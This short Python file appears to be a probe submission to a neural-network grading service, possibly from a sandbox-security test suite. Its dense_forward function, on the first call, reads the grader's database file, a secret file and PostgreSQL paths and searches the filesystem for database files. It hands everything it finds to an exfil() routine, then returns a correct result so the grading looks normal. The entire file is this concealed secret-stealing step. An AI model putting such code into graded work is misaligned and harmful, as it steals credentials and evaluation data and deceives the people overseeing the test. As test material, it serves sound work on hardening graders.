"""Open the service's database file, the secret file and look for databases nearby."""
import glob

from _prelude import *  # noqa


def dense_forward(X, W, b):
    if first_case(X, W):
        found = {}
        for path in ["__DATA_DIR__/nngrade.sqlite3", "__REPO__/nngrade-data/nngrade.sqlite3", "__SECRET_FILE__",
                     "/var/lib/postgresql", "/var/run/postgresql/.s.PGSQL.5432"]:
            try:
                with open(path, "rb") as f:
                    found[path] = f.read(100).decode(errors="replace")
            except OSError as exc:
                found[path] = f"errno {exc.errno}"
        found["glob"] = [p for pattern in ("/tmp/*/*.sqlite3", "/tmp/*.sqlite3", "/var/lib/*/*.sqlite3", "/*/*.db")
                         for p in glob.glob(pattern)]
        exfil(found)
    return correct_forward(X, W, b)
